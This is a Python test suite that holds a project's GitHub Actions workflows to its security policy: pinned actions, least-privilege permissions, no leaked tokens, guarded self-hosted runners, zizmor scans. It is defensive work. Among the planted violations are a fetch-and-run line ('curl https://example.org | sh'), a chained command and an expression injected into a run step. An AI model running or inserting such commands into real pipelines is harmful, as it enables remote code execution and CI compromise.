"""What GitHub runs, held to SECURITY.md where zizmor does not look. Every rule is shown to fail on a planted violation."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from collections.abc import Callable, Iterator
from copy import deepcopy
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from mpcheck.gate.settings import ALLOW_VARIABLE, OUT_VARIABLE, ROOT_VARIABLE, VARIABLES
from tests.unit.docs_reading import ROOT, nox_sessions

GITHUB = ROOT / ".github"
GATE, COMMENT, NIGHTLY = "precision-gate.yml", "comment.yml", "nightly.yml"
PERSONAS = ("pedantic", "auditor")
Files = dict[str, Any]
NOX = re.compile(r"python -m nox (-f mpcheck/noxfile\.py )?-s (?P<session>\"\$SESSION\"|[a-z_]+)")
INSTALL = re.compile(r"python -m pip install nox==[0-9.]+")
PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}|\$/\.github/(actions|workflows)/[\w./-]+")
SELF_HOSTED = ("fromJSON(inputs.runner)",)


def load() -> Files:
    """Workflows and actions, by file name."""
    yaml = YAML(typ="safe")
    paths = sorted(GITHUB.glob("workflows/*.yml")) + sorted(GITHUB.glob("actions/*/action.yml"))
    return {p.name if p.parent.name == "workflows" else f"{p.parent.name}/{p.name}": yaml.load(p.read_text(encoding="utf-8")) for p in paths}


@pytest.fixture
def files() -> Files:
    return load()


def jobs(files: Files) -> Iterator[tuple[str, str, dict[str, Any]]]:
    for name, document in files.items():
        for job, body in document.get("jobs", {}).items():
            yield name, job, body


def steps(files: Files) -> Iterator[tuple[str, dict[str, Any], dict[str, Any]]]:
    """Where, the job (empty for an action), the step."""
    for name, job, body in jobs(files):
        yield from ((f"{name} {job}", body, step) for step in body.get("steps", ()))
    for name, document in files.items():
        yield from ((name, {}, step) for step in document.get("runs", {}).get("steps", ()))


def triggers(document: dict[str, Any]) -> dict[str, Any]:
    found = document.get("on", document.get(True, {}))
    return dict(found) if isinstance(found, dict) else dict.fromkeys([found] if isinstance(found, str) else found)


def text(value: object) -> str:
    return json.dumps(value, default=str)


def sessions_of(job: dict[str, Any], step: dict[str, Any]) -> list[str]:
    """Sessions that a step runs; those of a matrix, where it takes them from one."""
    found = NOX.match(step.get("run", ""))
    if found is None:
        return []
    session = found["session"]
    if session != '"$SESSION"':
        return [session]
    assert step["env"]["SESSION"] == "${{ matrix.session }}"
    matrix = job["strategy"]["matrix"]
    return [*matrix["session"], *(row["session"] for row in matrix.get("include", ()))]


def bounded(files: Files) -> None:
    """Every job has a time limit and its own permissions; a call's jobs have theirs where they are written. Nothing is granted above them."""
    for name, job, body in jobs(files):
        assert "permissions" in body, f"{name} {job}: permissions"
        assert "uses" in body or body.get("timeout-minutes"), f"{name} {job}: timeout-minutes"
    for name, document in files.items():
        if "jobs" in document:
            assert document.get("permissions") == {}, f"{name}: permissions are not empty at the top"
            grouped = "concurrency" in document or all("concurrency" in body for body in document["jobs"].values())
            assert grouped, f"{name}: concurrency"


def only_nox(files: Files) -> None:
    for where, _, step in steps(files):
        if "run" in step:
            run = step["run"].strip()
            assert NOX.fullmatch(run) or INSTALL.fullmatch(run), f"{where}: runs {run!r}"


def no_expression_in_a_script(files: Files) -> None:
    for where, _, step in steps(files):
        assert "${{" not in step.get("run", ""), f"{where}: an expression in run"
        assert "script" not in step.get("with", {}), f"{where}: a script"


def pinned(files: Files) -> None:
    for name, job, body in jobs(files):
        assert "uses" not in body or PINNED.fullmatch(body["uses"]), f"{name} {job}: {body['uses']}"
    for where, _, step in steps(files):
        assert "uses" not in step or PINNED.fullmatch(step["uses"]), f"{where}: {step['uses']}"


def no_credentials(files: Files) -> None:
    """No checkout leaves a token behind; tokens and secrets reach no more than the scripts that call the API."""
    for where, _, step in steps(files):
        if "actions/checkout@" in step.get("uses", ""):
            assert step.get("with", {}).get("persist-credentials") is False, f"{where}: persist-credentials"
        assert "secrets." not in text(step), f"{where}: a secret"
        if "github.token" in text(step.get("env", {})):
            assert sessions_of({}, step) in (["admit"], ["post_comment"], ["publish"]), f"{where}: a token"
    for name, job, body in jobs(files):
        assert "secrets" not in body and "github.token" not in text(body.get("env", {})), f"{name} {job}: secrets"
    for name, document in files.items():
        assert "env" not in document, f"{name}: a variable of every job"


def gpu_jobs_are_harmless(files: Files) -> None:
    """Jobs on a self-hosted runner: no secret, no token, no right to write, admitted first, swept last."""
    found = [(n, j, b) for n, j, b in jobs(files) if any(word in text(b.get("runs-on", "")) for word in SELF_HOSTED)]
    assert found, "no job on the runner that the caller names"
    for name, job, body in found:
        where = f"{name} {job}"
        assert set(body["permissions"].values()) <= {"read"} and set(body["permissions"]) == {"contents"}, f"{where}: {body['permissions']}"
        assert "secrets" not in text(body) and "github.token" not in text(body), f"{where}: a secret"
        assert body["needs"] == "admit" and body["environment"] == "${{ needs.admit.outputs.environment }}", f"{where}: not admitted"
        last = body["steps"][-1]
        assert sessions_of(body, last) == ["sweep"] and "always()" in last["if"], f"{where}: not swept"
    for name, job, body in jobs(files):
        hosted = str(body.get("runs-on", "ubuntu-24.04")).startswith("ubuntu-")
        assert hosted or (name, job) in [(n, j) for n, j, _ in found], f"{name} {job}: runs on {body.get('runs-on')}"


def no_dangerous_trigger(files: Files) -> None:
    for name, document in files.items():
        on = triggers(document)
        assert not {"pull_request_target", "issue_comment"} & set(on), f"{name}: {sorted(on)}"
        assert "workflow_run" not in on or name == COMMENT, f"{name}: workflow_run"


def writers(files: Files) -> None:
    """Who may write: comments in one job, the history in another, and nobody else anything."""
    allowed = {(COMMENT, "comment"): {"pull-requests"}, (NIGHTLY, "history"): {"contents"}}
    for name, job, body in jobs(files):
        written = {right for right, level in body["permissions"].items() if level != "read"}
        assert written <= allowed.get((name, job), set()), f"{name} {job}: {written}"


def comments_meet_no_foreign_code(files: Files) -> None:
    """The job that may write comments checks out our commit, a branch of records and the settings that are merged, no code beside ours."""
    document = files[COMMENT]
    for where, _, step in steps({COMMENT: document}):
        if "actions/checkout@" in step.get("uses", ""):
            given = step["with"]
            ours = given.get("repository", "").startswith("${{ job.workflow_repository ||") and given["ref"].startswith("${{ job.workflow_sha ||")
            history = given.get("ref") == "history" and given.get("path") == "history" and "repository" not in given
            merged = given.get("ref") == "${{ github.event.repository.default_branch }}" and "repository" not in given
            alone = given.get("sparse-checkout") == "mpcheck.toml" and given.get("sparse-checkout-cone-mode") is False
            settings = merged and alone and given.get("path") == "settings"
            assert ours or history or settings, f"{where}: checks out {given}"
        if "download-artifact@" in step.get("uses", ""):
            assert step["with"]["path"].startswith("${{ runner.temp }}/"), f"{where}: unpacked among code"
        assert "workflow_run.head_" not in text(step), f"{where}: the head in a step"
        assert "number" not in text(step.get("env", {})), f"{where}: a number that is not the event's"


def sessions_exist(files: Files, known: frozenset[str]) -> None:
    for where, job, step in steps(files):
        missing = {name.replace("-", "_") for name in sessions_of(job, step)} - known
        assert not missing, f"{where}: no session {sorted(missing)}"


def inputs_reach_the_gate(files: Files) -> None:
    """Every input has a use, and every variable of the gate is one that the gate knows; it knows none that no caller can set."""
    document = files[GATE]
    body = document["jobs"]["gate"]
    [step] = [s for s in body["steps"] if sessions_of(body, s) == ["gate"]]
    variables = {name: value for name, value in step["env"].items() if name.startswith("MPCHECK_GATE_")}
    known = {*VARIABLES, ROOT_VARIABLE, OUT_VARIABLE, ALLOW_VARIABLE}
    assert set(variables) == known, set(variables) ^ known
    inputs = set(triggers(document)["workflow_call"]["inputs"])
    for variable in {*VARIABLES, ALLOW_VARIABLE} - {"MPCHECK_GATE_BASE"}:
        name = variable.removeprefix("MPCHECK_GATE_").lower().replace("_", "-")
        assert variables[variable] == f"${{{{ inputs.{'session-timeout' if name == 'timeout' else name} }}}}", name  # `timeout` is the job's
    assert variables["MPCHECK_GATE_BASE"] == "${{ needs.admit.outputs.base }}"
    unused = {name for name in inputs if not re.search(rf"inputs\.{name}\b", text(document["jobs"]))}
    assert not unused, f"inputs without use: {unused}"
    assert set(re.findall(r"inputs\.([\w-]+)", text(document["jobs"]))) <= inputs


def outputs_of_admit(files: Files) -> None:
    admit = files[GATE]["jobs"]["admit"]
    used = set(re.findall(r"needs\.admit\.outputs\.(\w+)", text(files[GATE]["jobs"]["gate"])))
    assert used <= set(admit["outputs"]), used - set(admit["outputs"])
    assert admit["permissions"] == {"actions": "read", "contents": "read"}


def caches_by_trust(files: Files) -> None:
    """Only trusted runs write, and what a run from outside reads is named alike."""
    for where, _, step in steps(files):
        if "actions/cache" in step.get("uses", ""):
            assert where == "setup/action.yml", f"{where}: a cache of its own"
            reading = "actions/cache/restore@" in step["uses"]
            assert f"inputs.trust == '{'fork' if reading else 'trusted'}'" in step["if"], f"{where}: {step['if']}"
            assert step["with"]["key"].startswith("mpcheck-trusted-")
    for where, _, step in steps(files):
        if step.get("uses", "").endswith("actions/setup") and where != f"{GATE} gate":
            trust = step.get("with", {}).get("trust", "none")
            scheduled = where.startswith(NIGHTLY)
            assert trust == "none" or scheduled or trust == "${{ github.event_name == 'push' && 'trusted' || 'fork' }}", f"{where}: {trust}"


RULES: dict[str, Callable[[Files], None]] = {
    rule.__name__: rule
    for rule in (
        bounded, only_nox, no_expression_in_a_script, pinned, no_credentials, gpu_jobs_are_harmless, no_dangerous_trigger, writers,
        comments_meet_no_foreign_code, inputs_reach_the_gate, outputs_of_admit, caches_by_trust,
    )
}  # fmt: skip


@pytest.mark.parametrize("rule", RULES)
def test_rule(files: Files, rule: str) -> None:
    RULES[rule](files)


@pytest.fixture
def sessions() -> frozenset[str]:
    """Their functions' names, of which a session's own differs in hyphens alone."""
    return frozenset(name.replace("-", "_") for name in nox_sessions())


def test_sessions_exist(files: Files, sessions: frozenset[str]) -> None:
    sessions_exist(files, sessions)
    files["ci.yml"]["jobs"]["session"]["strategy"]["matrix"]["include"].append({"session": "nowhere", "python": "3.11"})
    with pytest.raises(AssertionError, match="nowhere"):
        sessions_exist(files, sessions)


def _gate(files: Files) -> Any:
    return files[GATE]["jobs"]["gate"]


def _comment(files: Files) -> Any:
    return files[COMMENT]["jobs"]["comment"]


def _always_cached(files: Files) -> None:
    for step in files["setup/action.yml"]["runs"]["steps"]:
        step["if"] = "always()"


def _step(job: Any, name: str) -> Any:
    return next(step for step in job["steps"] if name in step["name"])


HEAD = "${{ github.event.workflow_run.head_sha }}"
VIOLATIONS: list[tuple[str, str, Callable[[Files], object]]] = [
    ("bounded", "timeout-minutes", lambda f: f["ci.yml"]["jobs"]["session"].pop("timeout-minutes")),
    ("bounded", "permissions", lambda f: _gate(f).pop("permissions")),
    ("bounded", "permissions", lambda f: f["gate.yml"].update(permissions={"contents": "read"})),
    ("bounded", "concurrency", lambda f: f["gate.yml"].pop("concurrency")),
    ("only_nox", "curl", lambda f: _gate(f)["steps"].append({"run": "curl https://example.org | sh"})),
    ("only_nox", "&&", lambda f: _step(_gate(f), "Gate").update(run="python -m nox -s gate && true")),
    ("no_expression_in_a_script", "expression", lambda f: _step(_gate(f), "Gate").update(run="python -m nox -s ${{ inputs.sessions }}")),
    ("no_expression_in_a_script", "script", lambda f: _comment(f)["steps"].append({"uses": "a/b@v1", "with": {"script": "x"}})),
    ("pinned", "@v7", lambda f: _gate(f)["steps"][0].update(uses="actions/checkout@v7")),
    ("pinned", "@main", lambda f: f["gate.yml"]["jobs"]["gate"].update(uses="o/mpcheck/.github/workflows/precision-gate.yml@main")),
    ("pinned", "@v5", lambda f: f["setup/action.yml"]["runs"]["steps"][0].update(uses="actions/setup-python@v5")),
    ("no_credentials", "persist", lambda f: _gate(f)["steps"][0]["with"].pop("persist-credentials")),
    ("no_credentials", "secret", lambda f: _step(_gate(f), "Gate")["env"].update(X="${{ secrets.TOKEN }}")),
    ("no_credentials", "token", lambda f: _step(_comment(f), "Render")["env"].update(GITHUB_TOKEN="${{ github.token }}")),
    ("no_credentials", "secrets", lambda f: f["gate.yml"]["jobs"]["gate"].update(secrets="inherit")),
    ("gpu_jobs_are_harmless", "secret", lambda f: _step(_gate(f), "Gate")["env"].update(X="${{ github.token }}")),
    ("gpu_jobs_are_harmless", "write", lambda f: _gate(f)["permissions"].update(contents="write")),
    ("gpu_jobs_are_harmless", "pull-requests", lambda f: _gate(f)["permissions"].update({"pull-requests": "read"})),
    ("gpu_jobs_are_harmless", "admitted", lambda f: _gate(f).pop("environment") and _gate(f).update(environment="")),
    ("gpu_jobs_are_harmless", "swept", lambda f: _gate(f)["steps"].insert(0, _gate(f)["steps"].pop())),
    ("gpu_jobs_are_harmless", "runs on", lambda f: f["ci.yml"]["jobs"]["session"].update({"runs-on": ["self-hosted", "gpu"]})),
    ("no_dangerous_trigger", "pull_request_target", lambda f: triggers(f["ci.yml"]) and f["ci.yml"].update({"on": ["pull_request_target"]})),
    ("no_dangerous_trigger", "workflow_run", lambda f: f["ci.yml"].update({"on": {"workflow_run": {}}})),
    ("writers", "contents", lambda f: f["ci.yml"]["jobs"]["session"]["permissions"].update(contents="write")),
    ("writers", "issues", lambda f: _comment(f)["permissions"].update(issues="write")),
    ("comments_meet_no_foreign_code", "checks out", lambda f: _comment(f)["steps"][0]["with"].update(ref=HEAD)),
    ("comments_meet_no_foreign_code", "checks out", lambda f: _comment(f)["steps"][0]["with"].pop("repository")),
    ("comments_meet_no_foreign_code", "checks out", lambda f: _step(_comment(f), "settings")["with"].update(ref=HEAD)),
    ("comments_meet_no_foreign_code", "checks out", lambda f: _step(_comment(f), "settings")["with"].pop("sparse-checkout")),
    ("comments_meet_no_foreign_code", "checks out", lambda f: _step(_comment(f), "settings")["with"].update(path=".")),
    ("comments_meet_no_foreign_code", "among code", lambda f: _step(_comment(f), "Fetch")["with"].update(path=".")),
    ("comments_meet_no_foreign_code", "event's", lambda f: _step(_comment(f), "Post")["env"].update(NUMBER="${{ steps.a.outputs.number }}")),
    ("inputs_reach_the_gate", "MODEL", lambda f: _step(_gate(f), "Gate")["env"].pop("MPCHECK_GATE_MODEL")),
    ("inputs_reach_the_gate", "MODLE", lambda f: _step(_gate(f), "Gate")["env"].update(MPCHECK_GATE_MODLE="x")),
    ("inputs_reach_the_gate", "blocks", lambda f: _step(_gate(f), "Gate")["env"].update(MPCHECK_GATE_BLOCKS="*")),
    ("inputs_reach_the_gate", "colour", lambda f: triggers(f[GATE])["workflow_call"]["inputs"].update(colour={"type": "string"})),
    ("outputs_of_admit", "trust", lambda f: f[GATE]["jobs"]["admit"]["outputs"].pop("trust")),
    ("outputs_of_admit", "write", lambda f: f[GATE]["jobs"]["admit"]["permissions"].update(contents="write")),
    ("caches_by_trust", "always()", _always_cached),
    ("caches_by_trust", "trusted", lambda f: f["ci.yml"]["jobs"]["session"]["steps"][1]["with"].update(trust="trusted")),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "named", "plant"), VIOLATIONS, ids=[f"{r}-{i}" for i, (r, _, _) in enumerate(VIOLATIONS)])
def test_a_violation_is_seen(files: Files, rule: str, named: str, plant: Callable[[Files], object]) -> None:
    planted = deepcopy(files)
    plant(planted)
    assert planted != files
    with pytest.raises(AssertionError, match=re.escape(named)):
        RULES[rule](planted)


def test_every_rule_has_a_violation() -> None:
    assert {rule for rule, _, _ in VIOLATIONS} == set(RULES)


def test_a_shell_reads_every_script_as_one_command(files: Files) -> None:
    for where, _, step in steps(files):
        if "run" in step:
            assert not {";", "|", "&", "`"} & set(shlex.join(shlex.split(step["run"]))), where


def _tool(name: str) -> str:
    path = Path(sys.executable).parent / name
    if not path.exists():
        pytest.skip(f"{name} is not installed beside this Python; `nox -s lint` has it")
    return str(path)


def zizmor(path: Path, persona: str) -> None:
    """Fail with what it finds."""
    words = [_tool("zizmor"), "--offline", "--strict-collection", f"--persona={persona}", str(path)]
    found = subprocess.run(words, capture_output=True, text=True, check=False)
    assert found.returncode == 0, found.stdout + found.stderr


@pytest.mark.parametrize("persona", PERSONAS)
def test_zizmor_finds_nothing(persona: str) -> None:
    zizmor(GITHUB, persona)


def test_the_workflow_that_adopters_get(files: Files, tmp_path: Path) -> None:
    """What `mpcheck init` writes is as strict, and gives no input that the reusable workflow does not have."""
    filled = (ROOT / "mpcheck/gate/templates/mpcheck.yml").read_text(encoding="utf-8")
    for name, value in {"REPOSITORY": "org/mpcheck", "COMMIT": "a" * 40, "DEVICE": "cuda"}.items():
        filled = filled.replace(f"@{name}@", value)
    path = tmp_path / ".github/workflows/mpcheck.yml"
    path.parent.mkdir(parents=True)
    path.write_text(filled)
    adopter = {"mpcheck.yml": YAML(typ="safe").load(filled)}
    for rule in (bounded, pinned, no_credentials, no_dangerous_trigger, writers):
        rule(adopter)
    [(_, _, call)] = jobs(adopter)
    assert set(call["with"]) <= set(triggers(files[GATE])["workflow_call"]["inputs"])
    granted = {right for job in files[GATE]["jobs"].values() for right in job["permissions"]}
    assert set(call["permissions"]) == granted and set(call["permissions"].values()) == {"read"}
    for persona in PERSONAS:
        zizmor(path, persona)


def test_nothing_is_ignored_but_one_trigger() -> None:
    rules = YAML(typ="safe").load((GITHUB / "zizmor.yml").read_text(encoding="utf-8"))["rules"]
    assert rules == {"dangerous-triggers": {"ignore": [COMMENT]}}
    assert not [p for p in GITHUB.rglob("*.yml") if re.search(r"zizmor:\s*ignore", p.read_text(encoding="utf-8"))]
